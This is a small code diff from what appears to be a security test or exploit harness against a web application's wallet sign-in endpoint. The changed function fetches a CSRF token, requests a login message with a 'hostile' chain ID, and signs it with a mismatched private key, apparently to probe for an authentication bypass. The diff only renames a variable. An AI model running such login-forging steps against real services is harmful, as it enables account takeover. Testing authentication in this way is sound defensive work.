@@ -164,8 +164,8 @@ def _begin_as_contract(attacked: Target) -> Callable[[], str]:
     session.headers.update({"Accept": "application/json", "Referer": f"{attacked.url}/sign-in"})
     session.get(f"{attacked.url}/sign-in", headers={"Accept": "text/html"}, timeout=60)
     session.headers["X-CSRFToken"] = session.cookies["csrftoken"]
-    asked = {"address": _WALLET, "chainId": HOSTILE_ID}
-    message = session.post(f"{attacked.url}/sign-in/message", json=asked, timeout=60).json()["message"]
+    request = {"address": _WALLET, "chainId": HOSTILE_ID}
+    message = session.post(f"{attacked.url}/sign-in/message", json=request, timeout=60).json()["message"]
     signature = Account.sign_message(encode_defunct(text=message), _OTHER_KEY).signature.to_0x_hex()
 
     def finish() -> str:
